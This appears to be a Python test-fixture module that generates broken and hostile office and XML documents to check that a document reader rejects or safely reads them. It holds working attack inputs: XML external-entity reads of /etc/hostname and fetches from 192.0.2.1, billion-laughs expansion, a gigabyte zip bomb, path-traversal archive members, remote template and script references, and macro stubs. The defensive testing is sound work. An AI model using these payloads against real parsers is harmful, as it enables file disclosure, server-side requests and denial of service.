"""Files that are broken or made to do harm, each made by code; none is taken from anywhere."""

import io
import struct
import zipfile
import zlib
from pathlib import Path

from opendocument import SPACES, flat
from opendocument import p as odt_p
from wordfile import archive, word_file
from wordfile import p as word_p
from wordfile import r as word_r

GIGABYTE = 2**30
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
W = "xmlns:w='http://schemas.openxmlformats.org/wordprocessingml/2006/main'"
AKN = '<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/hostname'>]>"
REMOTE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://192.0.2.1/e'>]>"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY e0 "ha">'
    + "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 11))
    + '<!ENTITY e "&e10;">]>'
)
RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(200)


def _word(head: str, inner: str = "&e;") -> bytes:
    text = f"{head}<w:document {W}><w:body><w:p><w:r><w:t>{inner}</w:t></w:r></w:p></w:body>"
    return archive({"word/document.xml": f"{text}</w:document>"})


def _odt(head: str) -> bytes:
    content = f"{head}<office:document-content {SPACES}><office:body><office:text><text:p>&e;"
    content += "</text:p></office:text></office:body></office:document-content>"
    return archive({"content.xml": content})


def _with_password(data: bytes) -> bytes:
    """The archive with the flag of encryption on every member."""
    marked = bytearray(data)
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = -1
        while (start := marked.find(sign, start + 1)) >= 0:
            marked[start + place] |= 1
    return bytes(marked)


def _gigabyte(name: str) -> bytes:
    """An archive whose one member truly unpacks to a gigabyte of spaces, in a megabyte."""
    block = b" " * 2**20
    squeezing = zlib.compressobj(9, zlib.DEFLATED, -15)
    once = squeezing.compress(block) + squeezing.flush(zlib.Z_FULL_FLUSH)
    squeezed, check = once * (GIGABYTE // 2**20) + squeezing.flush(), 0
    for _ in range(GIGABYTE // 2**20):
        check = zlib.crc32(block, check)
    sizes = struct.pack("<HHIII", 0, 0, check, len(squeezed), GIGABYTE)
    said = struct.pack("<HHH", 20, 0, 8) + sizes + struct.pack("<HH", len(name), 0)
    local = b"PK\x03\x04" + said + name.encode() + squeezed
    central = b"PK\x01\x02" + struct.pack("<H", 20) + said
    central += struct.pack("<HHHII", 0, 0, 0, 0, 0) + name.encode()
    end = struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)
    return local + central + b"PK\x05\x06" + end


def _lying(name: str) -> bytes:
    """An archive whose directory says that a large member is ten bytes long."""
    data = bytearray(archive({name: " " * 2**20}))
    place = data.find(b"PK\x01\x02")
    data[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(data)


def _deep(tag: str, depth: int = 20_000) -> str:
    return f"<{tag}>" * depth + f"</{tag}>" * depth


def _many_members() -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        for n in range(40_000):
            package.writestr(zipfile.ZipInfo(f"word/{n}.xml"), b"")
    return stream.getvalue()


def _main_elsewhere(target: str, mode: str) -> bytes:
    relation = (
        f'<Relationship Id="a" Type="x/officeDocument" Target="{target}" TargetMode="{mode}"/>'
    )
    rels = f'<Relationships xmlns="{RELATIONS}">{relation}</Relationships>'
    return archive({"_rels/.rels": rels})


def _stored(name: str, content: bytes) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as package:
        package.writestr(name, content)
    return stream.getvalue()


WORD = word_file(word_p(word_r("The General Assembly,")))
ODT = archive({"content.xml": flat(odt_p("The General Assembly,"))})
LONG = b"a" * 12_000_000

REFUSED = {
    "truncated.docx": WORD[: len(WORD) // 2],
    "truncated.odt": ODT[: len(ODT) // 2],
    "empty.docx": b"",
    "empty.odt": b"",
    "empty.html": b"",
    "password.docx": _with_password(WORD),
    "encrypted.docx": OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "encrypted.odt": archive(
        {"content.xml": "x", "META-INF/manifest.xml": "<manifest:encryption-data/>"}
    ),
    "old-word.docx": OLE + bytes(600),
    "rich-text.docx": b"{\\rtf1 The General Assembly}",
    "gigabyte.docx": _gigabyte("word/document.xml"),
    "gigabyte.odt": _gigabyte("content.xml"),
    "lying-directory.docx": _lying("word/document.xml"),
    "external-entity.docx": _word(OUTSIDE),
    "external-entity.odt": _odt(OUTSIDE),
    "external-entity.akn": f"{OUTSIDE}{AKN}&e;</akomaNtoso>".encode(),
    "remote-entity.docx": _word(REMOTE),
    "remote-dtd.akn": b'<!DOCTYPE x SYSTEM "http://192.0.2.1/x.dtd"><akomaNtoso/>',
    "laughs.docx": _word(LAUGHS),
    "laughs.odt": _odt(LAUGHS),
    "laughs.akn": f"{LAUGHS}{AKN}&e;</akomaNtoso>".encode(),
    "laughs.fodt": f"{LAUGHS}<office:document {SPACES}>&e;</office:document>".encode(),
    "deep.docx": _word("", _deep("w:sdt")),
    "deep.odt": archive({"content.xml": _deep("office")}),
    "deep.akn": f"{AKN}{_deep('p')}</akomaNtoso>".encode(),
    "traversal.docx": archive({"../../../../tmp/word/document.xml": "<x/>"}),
    "main-outside.docx": _main_elsewhere("file:///etc/hostname", "External"),
    "main-above.docx": _main_elsewhere("../../../../etc/hostname", "Internal"),
    "main-remote.docx": _main_elsewhere("http://192.0.2.1/word/document.xml", "External"),
    "picture.docx": PNG,
    "picture.txt": PNG * 20,
    "word-file.odt": WORD,
    "word-file.txt": WORD,
    "open-document.docx": ODT,
    "spreadsheet.docx": archive({"xl/workbook.xml": "<workbook/>"}),
    "huge-attribute.docx": _stored("word/document.xml", b"<x a='" + LONG + b"'/>"),
    "huge-name.akn": b"<" + LONG + b"/>",
    "malformed-utf-8.docx": _stored("word/document.xml", b"<x>\xff\xfe\x80\xc0\xaf</x>"),
    "surrogate.odt": archive({"content.xml": "<x>&#xD800;</x>"}),
    "many-members.docx": _many_members(),
}
"""What cannot be read at all, by file name."""

_TEMPLATE = f"""<Relationships xmlns="{RELATIONS}"><Relationship Id="t" Type="x/attachedTemplate"
 Target="http://192.0.2.1/t.dotm" TargetMode="External"/><Relationship Id="p" Type="x/footnotes"
 Target="../../../../etc/hostname"/><Relationship Id="i" Type="x/image"
 Target="file:////192.0.2.1/share/i.png" TargetMode="External"/></Relationships>"""

READ = {
    "macros.docm": word_file(
        word_p(word_r("Text")), members={"word/vbaProject.bin": b"Sub AutoOpen()"}
    ),
    "macros.docx": word_file(
        word_p(word_r("Text")), members={"word/vbaProject.bin": b"Sub AutoOpen()"}
    ),
    "macros.odt": archive({"content.xml": flat(odt_p("Text")), "Basic/Standard/M.xml": "Sub Main"}),
    "remote-template.docx": word_file(
        word_p(word_r("Text")), members={"word/_rels/document.xml.rels": _TEMPLATE}
    ),
    "traversal-beside.docx": word_file(
        word_p(word_r("Text")), members={"../../../tmp/drafter-was-here": b"x"}
    ),
    "deep.html": ("<div>" * 5000 + "Text" + "</div>" * 5000).encode(),
    "script.html": b"<p>Text<script src='http://192.0.2.1/x.js'></script><iframe src='//x'></p>",
}
"""What is read, harm left behind: macros are not run, nothing is fetched or unpacked elsewhere."""


def write_all(folder: Path) -> list[str]:
    """Write every refused file, and what is no file; return their names."""
    for name, data in REFUSED.items():
        (folder / name).write_bytes(data)
    (folder / "folder.docx").mkdir()
    (folder / "endless.docx").symlink_to("/dev/zero")
    (folder / "endless.txt").symlink_to("/dev/zero")
    (folder / "loop.odt").symlink_to("loop.odt")
    return [*REFUSED, "folder.docx", "endless.docx", "endless.txt", "loop.odt", "missing.docx"]
